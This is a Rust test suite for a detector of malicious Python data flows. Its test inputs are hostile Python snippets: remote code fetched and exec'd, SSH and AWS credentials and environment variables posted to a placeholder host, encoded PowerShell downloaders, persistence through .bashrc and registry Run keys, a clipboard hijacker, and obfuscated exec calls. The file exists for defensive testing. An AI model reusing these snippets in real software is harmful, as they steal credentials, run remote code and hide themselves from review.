//! The shapes issue 19 names, as source: each must give its flow or call, and its honest twin
//! must not.

use crate::{Sink, Source, analyse};

fn flows(source: &str) -> Vec<(Source, Sink)> {
    analyse(source)
        .flows
        .iter()
        .map(|f| (f.source, f.sink))
        .collect()
}

/// Whether data of `from` reaches `to`; decoded data of unknown origin counts as decoded.
fn has(source: &str, from: Source, to: Sink) -> bool {
    flows(source).iter().any(|&(s, k)| {
        k == to && (s == from || (from == Source::Decoded && s == Source::DecodedArg))
    })
}

#[test]
fn network_read_into_exec_through_aliases_and_variables() {
    assert!(has(
        "import requests as rs\nexec(rs.get(u).text)",
        Source::Network,
        Sink::Exec
    ));
    assert!(has(
        "import requests\np = requests.get(u).text\nx = 1\nexec(p)",
        Source::Network,
        Sink::Exec
    ));
    assert!(has(
        "from urllib.request import urlopen as o\nd = o(u)\nc = d.read().decode()\nexec(c)",
        Source::Network,
        Sink::Exec
    ));
    assert!(has(
        "import urllib2\ndef fetch(u):\n    return urllib2.urlopen(u).read()\nexec(fetch(x))",
        Source::Network,
        Sink::Exec
    ));
    // through a function's parameter
    assert!(has(
        "import requests\ndef run(code):\n    exec(code)\nrun(requests.get(u).text)",
        Source::Network,
        Sink::Exec
    ));
}

#[test]
fn spacing_and_lookalike_letters_do_not_hide_a_call() {
    assert!(has(
        "import base64\nexec (base64.b64decode (s))",
        Source::Decoded,
        Sink::Exec
    ));
    // mathematical monospace and fullwidth letters are NFKC-equal to `exec`
    assert!(has(
        "import base64\n𝚎𝚡𝚎𝚌(base64.b64decode(s))",
        Source::Decoded,
        Sink::Exec
    ));
    assert!(has(
        "import base64\nｅｘｅｃ(base64.b64decode(s))",
        Source::Decoded,
        Sink::Exec
    ));
}

#[test]
fn builtins_reached_by_lookup() {
    assert!(has(
        "import builtins, base64\ngetattr(builtins, 'ex' + 'ec')(base64.b64decode(s))",
        Source::Decoded,
        Sink::Exec
    ));
    assert!(has(
        "import base64\ne = __builtins__.__dict__['eval']\ne(base64.b64decode(s))",
        Source::Decoded,
        Sink::Exec
    ));
    assert!(has(
        "m = __import__('ba' + 'se64')\ngetattr(__import__('builtins'), ''.join(['e','x','e','c']))(m.b64decode(s))",
        Source::Decoded,
        Sink::Exec
    ));
    assert!(has(
        "import marshal as m\nexec(m.loads(blob))",
        Source::Decoded,
        Sink::Exec
    ));
    // the name of the function, folded from chr codes and a reversed string
    assert!(has(
        "import base64\nf = getattr(__builtins__, 'cexe'[::-1])\nf(base64.b64decode(s))",
        Source::Decoded,
        Sink::Exec
    ));
}

#[test]
fn executed_constants_are_analysed() {
    // base64 of `import requests;exec(requests.get(u).text)`
    let src = "import base64\nexec(base64.b64decode('aW1wb3J0IHJlcXVlc3RzO2V4ZWMocmVxdWVzdHMuZ2V0KHUpLnRleHQp'))";
    assert!(has(src, Source::Network, Sink::Exec));
}

#[test]
fn credentials_and_environment_sent() {
    assert!(has(
        "import os, requests\nk = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.post(u, data=k)",
        Source::Credential,
        Sink::Send
    ));
    assert!(has(
        "import os, json, urllib.request as r\nbody = json.dumps(dict(os.environ)).encode()\nr.urlopen(r.Request(u, data=body))",
        Source::Environ,
        Sink::Send
    ));
    assert!(has(
        "import socket, requests\nrequests.get(u, params={'h': socket.gethostname()})",
        Source::Host,
        Sink::Send
    ));
    // a file zipped up and sent
    assert!(has(
        "import zipfile, requests\nz = zipfile.ZipFile('o.zip', 'w')\nz.write('/home/u/.ssh/id_rsa')\nrequests.post(u, files={'f': z})",
        Source::Credential,
        Sink::Send
    ));
}

#[test]
fn honest_twins_give_no_flow() {
    // a token from the environment sent to its own API is how every client works
    assert!(
        flows(
            "import os, requests\nrequests.get(u, headers={'Authorization': os.environ['TOKEN']})"
        )
        .is_empty()
    );
    assert!(flows("import ast, base64\nast.literal_eval(base64.b64decode(s).decode())").is_empty());
    assert!(
        flows("import re, base64\nP = re.compile(base64.b64decode(b'XHcr').decode())").is_empty()
    );
    // a local file's content executed is a flow of its own kind, which no rule judges
    assert!(
        flows("exec(compile(open('version.py').read(), 'version.py', 'exec'))")
            .iter()
            .all(|(s, _)| *s == Source::File)
    );
    assert!(flows("import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])").is_empty());
    // excluding .env from an archive is not reading it
    assert!(
        flows("import zipfile\nEXCLUDE = ['.env', '.git']\nz = zipfile.ZipFile('o.zip', 'w')")
            .is_empty()
    );
}

#[test]
fn downloads_that_run() {
    let miner = "import subprocess, os\nsubprocess.call(['curl', '-s', '-o', '/tmp/xm', 'http://h/xm'])\nos.chmod('/tmp/xm', 0o755)\nsubprocess.Popen(['/tmp/xm'], preexec_fn=os.setsid)";
    let a = analyse(miner);
    assert!(
        a.calls
            .iter()
            .any(|c| c.sink == Sink::Process && c.text.contains("curl"))
    );
    let drop = "import requests, os, subprocess\nr = requests.get(u)\nwith open('/tmp/.x', 'wb') as f:\n    f.write(r.content)\nos.chmod('/tmp/.x', 0o755)\nsubprocess.Popen('/tmp/.x')";
    assert!(has(drop, Source::Download, Sink::Process));
    assert!(has(drop, Source::Download, Sink::Chmod));
}

#[test]
fn persistence_writes() {
    let a = analyse(
        "import os\nwith open (os.path.expanduser ('~/.bashrc'), 'a') as f:\n    f.write('~/.drv &\\n')",
    );
    assert!(
        a.calls.iter().any(|c| c.sink == Sink::Persist),
        "{:?}",
        a.calls
    );
    let a = analyse(
        "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'upd', 0, winreg.REG_SZ, exe)",
    );
    assert!(
        a.calls.iter().any(|c| c.sink == Sink::Persist),
        "{:?}",
        a.calls
    );
    let a = analyse("with open('setup.cfg', 'w') as f:\n    f.write(cfg)");
    assert!(!a.calls.iter().any(|c| c.sink == Sink::Persist));
}

#[test]
fn clipboard_and_hidden_carriers() {
    let a = analyse(
        "import pyperclip, re\nwhile True:\n    t = pyperclip.paste()\n    if re.match(P, t):\n        pyperclip.copy('bc1qattacker')",
    );
    assert!(a.seen.iter().any(|(s, _)| *s == Source::Clipboard));
    assert!(
        a.calls
            .iter()
            .any(|c| c.sink == Sink::Clipboard && c.constant)
    );
    assert!(has(
        "from stegano import lsb\nexec(lsb.reveal('x.png'))",
        Source::Hidden,
        Sink::Exec
    ));
}

#[test]
fn docstrings_and_comments_are_inert_unless_read() {
    let src =
        "def f():\n    \"\"\">>> exec(b64decode(x))\"\"\"\n    return 1  # exec(b64decode(y))\n";
    let a = analyse(src);
    assert_eq!(a.inert.len(), 2);
    assert!(a.flows.is_empty());
    let view = crate::code_view(src.as_bytes(), &a.inert);
    assert!(!String::from_utf8(view.clone()).unwrap().contains("exec"));
    assert_eq!(view.len(), src.len());
    let a = analyse("\"\"\"payload\"\"\"\nimport base64\nexec(base64.b64decode(__doc__))");
    assert!(a.reads_own_source && a.inert.is_empty());
}

#[test]
fn python2_and_broken_code_still_analysed() {
    let a = analyse("print 'x'\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n");
    assert!(a.errors > 0);
    assert!(
        a.flows
            .iter()
            .any(|f| f.source == Source::Decoded && f.sink == Sink::Exec)
    );
}

#[test]
fn hostile_nesting_is_bounded() {
    let deep = format!("x = {}1{}", "(".repeat(5000), ")".repeat(5000));
    let a = analyse(&deep);
    assert!(a.errors > 0 || a.truncated || a.flows.is_empty());
    let calls = format!("exec({}s{})", "f(".repeat(3000), ")".repeat(3000));
    assert!(analyse(&calls).truncated);
    let lists = format!("x = {}1{}", "[".repeat(3000), "]".repeat(3000));
    let _ = analyse(&lists);
}

#[test]
fn evidence_names_both_ends() {
    let a = analyse("import requests\n\np = requests.get(u).text\n\n\nexec(p)\n");
    let f = a
        .flows
        .iter()
        .find(|f| f.sink == Sink::Exec)
        .expect("a flow");
    assert_eq!(f.from.line, 3);
    assert_eq!(f.from.text, "requests.get(u)");
    assert_eq!(f.to.line, 6);
    assert_eq!(f.to.text, "exec(p)");
}

#[test]
fn powershell_encoded_commands_are_read() {
    // `powershell Invoke-WebRequest -Uri "http://h/a.exe" -OutFile "a.exe"` as UTF-16LE base64
    let blob = "cABvAHcAZQByAHMAaABlAGwAbAAgAEkAbgB2AG8AawBlAC0AVwBlAGIAUgBlAHEAdQBlAHMAdAAgAC0AVQByAGkAIAAiAGgAdAB0AHAAOgAvAC8AaAAvAGEALgBlAHgAZQAiACAALQBPAHUAdABGAGkAbABlACAAIgBhAC4AZQB4AGUAIgA=";
    let src = format!(
        "import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand {blob}', shell=False)"
    );
    let a = analyse(&src);
    let call = a
        .calls
        .iter()
        .find(|c| c.sink == Sink::Process)
        .expect("a process");
    assert!(call.text.contains("Invoke-WebRequest"), "{}", call.text);
    assert!(call.top_level);
}

#[test]
fn arithmetic_and_char_picking_fold() {
    let a = analyse(
        "import base64\nf = getattr(__builtins__, ''.join(map(chr, [(((1 << 4) - 1) << 3) - 19, 120, 101, 99])))\nf(base64.b64decode(s))",
    );
    assert!(
        a.flows
            .iter()
            .any(|f| matches!(f.source, Source::Decoded | Source::DecodedArg)
                && f.sink == Sink::Exec),
        "{a:?}"
    );
    let a = analyse(
        "import base64\nn = 'xxexec'\ngetattr(__builtins__, n[2] + n[3] + n[-2] + n[-1])(base64.b64decode(s))",
    );
    assert!(a.flows.iter().any(|f| f.sink == Sink::Exec));
}

#[test]
fn import_time_is_told_from_call_time() {
    let a = analyse(
        "import socket, requests\ndef beacon():\n    requests.get(u, params={'h': socket.gethostname()})\nbeacon()",
    );
    assert!(a.flows.iter().any(|f| f.sink == Sink::Send && f.top_level));
    let a = analyse(
        "import socket, requests\ndef beacon():\n    requests.get(u, params={'h': socket.gethostname()})",
    );
    assert!(a.flows.iter().all(|f| !f.top_level));
}

#[test]
fn shapes_the_corpus_cases_found() {
    // characters from codes in a generator
    assert!(has(
        "exec(''.join(chr(c) for c in [105, 109, 112]))",
        Source::Decoded,
        Sink::Exec
    ));
    // contents collected into a list, then sent
    assert!(has(
        "import requests\nfound = []\nfor p in ['~/.ssh/id_rsa', '~/.aws/credentials']:\n    found.append(open(p).read())\nrequests.post(u, json=found)",
        Source::Credential,
        Sink::Send
    ));
    // a decoder in a lambda
    assert!(has(
        "import base64\nd = lambda s: base64.b64decode(s)\nexec(d(blob))",
        Source::Decoded,
        Sink::Exec
    ));
    // decoded code given to a child interpreter
    assert!(has(
        "import base64, subprocess, sys\n_c = base64.b64decode(blob).decode()\nsubprocess.Popen([sys.executable, '-c', _c])",
        Source::Decoded,
        Sink::Exec
    ));
}

#[test]
fn droppers_of_code_and_programs() {
    // a one-liner written to a temporary file and started
    let a = analyse(
        "from tempfile import NamedTemporaryFile as f\nt = f(delete=False)\nt.write(b\"from urllib.request import urlopen;exec(urlopen('http://127.0.0.1:9/x').read())\")",
    );
    assert!(
        a.flows
            .iter()
            .any(|f| f.source == Source::Network && f.sink == Sink::Exec)
    );
    // a response streamed into a file that is then run
    assert!(has(
        "import requests, shutil, subprocess\ndef dl(u):\n    r = requests.get(u, stream=True)\n    p = 'C:/Temp/x.exe'\n    with open(p, 'wb') as f:\n        shutil.copyfileobj(r.raw, f)\n    return p\nsubprocess.Popen([dl(u)])",
        Source::Download,
        Sink::Process
    ));
}

#[test]
fn honest_shapes_from_popular_packages() {
    // memray: a socket made, a program run: the socket object is no data read
    assert!(flows("import socket, subprocess\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.bind(('', 0))\nport = s.getsockname()[1]\nsubprocess.Popen(['app', str(port)])").is_empty());
    // numpy f2py: characters of computed codes evaluated
    assert!(flows("def f(params, n, initexpr):\n    v = chr(params[n])\n    return eval(initexpr, {}, {v: 1})").is_empty());
    // sklearn: a cached file decompressed and unpickled
    assert!(
        !flows("import codecs, pickle\nwith open(p, 'rb') as f:\n    c = f.read()\npickle.loads(codecs.decode(c, 'zlib_codec'))")
            .contains(&(Source::Decoded, Sink::Deserialize))
    );
    // pandas: a docstring's example is not code
    let a = analyse(
        "\"\"\"\nimport pyperclip; pyperclip.copy('The text to be copied to the clipboard.')\nspam = pyperclip.paste()\n\"\"\"\nimport os\n",
    );
    assert!(a.calls.is_empty(), "{:?}", a.calls);
}

#[test]
fn decoding_what_is_not_a_blob_is_of_unknown_origin() {
    // pydevd: a filter from the environment, unpickled
    let env = "import os, pickle, zlib, base64\nf = os.environ.get('PYDEV_PYTEST_SKIP')\npickle.loads(zlib.decompress(base64.b64decode(f)))";
    assert!(!flows(env).contains(&(Source::Decoded, Sink::Deserialize)));
    // torch: an empty template slot, filled when the driver is written out
    let slot = "import pickle, base64\n_FRAMES: str = ''\nframes = pickle.loads(base64.b64decode(_FRAMES))";
    assert!(!flows(slot).contains(&(Source::Decoded, Sink::Deserialize)));
    // winappdbg: Python 2's .decode('hex') of a key it was given
    let hexkey =
        "import pickle\ndef load(key):\n    key = key.decode('hex')\n    return pickle.loads(key)";
    assert!(!flows(hexkey).contains(&(Source::Decoded, Sink::Deserialize)));
    // a blob the file carries still is one
    assert!(has(
        "import pickle, base64\npickle.loads(base64.b64decode('gASVDAAAAAAAAACMCGRlZmFuZ2VklC4='))",
        Source::Decoded,
        Sink::Deserialize
    ));
}

#[test]
fn folding_that_overflows_is_unknown_not_a_panic() {
    // found on a popular sdist: the negation of i64::MIN
    for source in [
        "x = -(-9223372036854775807 - 1)\nexec(x)\n",
        "x = 9223372036854775807 + 1\ny = -x\n",
        "x = (-9223372036854775807 - 1) // -1\n",
        "x = 'ab'[-9223372036854775807 - 1]\n",
        "x = 'ab'[-9223372036854775807 - 1:]\n",
    ] {
        let _ = flows(source);
    }
}

#[test]
fn a_tree_deeper_than_cpython_compiles_is_not_parsed_and_says_so() {
    // each nests one level a link; 400,000 levels once overflowed the stack when the tree was
    // dropped, and a chain of dotted names cost quadratic time
    let deep = [
        format!("x = {}1{}", "(".repeat(400_000), ")".repeat(400_000)),
        format!("x = {}1", "-".repeat(400_000)),
        format!("x = {}", vec!["1"; 400_000].join("+")),
        format!("x = a{}", ".b".repeat(400_000)),
        format!("x = f{}", "()".repeat(400_000)),
        format!(
            "{}pass",
            (0..30_000)
                .map(|i| format!("{}if x:\n", " ".repeat(i)))
                .collect::<String>()
        ),
    ];
    for source in &deep {
        let a = crate::analyse(source);
        assert!(a.truncated, "{}", &source[..40]);
        assert!(crate::nesting_bound(source, crate::MAX_NESTING) > crate::MAX_NESTING);
    }
    // wide is not deep: a table of 50,000 entries on one line, and honest nesting, are judged
    let table = format!(
        "T = {{{}}}\nexec(__import__('urllib.request').urlopen('http://x').read())\n",
        (0..50_000)
            .map(|i| format!("{i}: 'v{i}'"))
            .collect::<Vec<_>>()
            .join(", ")
    );
    assert!(crate::nesting_bound(&table, crate::MAX_NESTING) < 100);
    assert!(!crate::analyse(&table).truncated);
    assert!(has(&table, Source::Network, Sink::Exec));
    let nested = format!("x = {}1{}\nimport os\n", "(".repeat(150), ")".repeat(150));
    assert!(!crate::analyse(&nested).truncated);
}
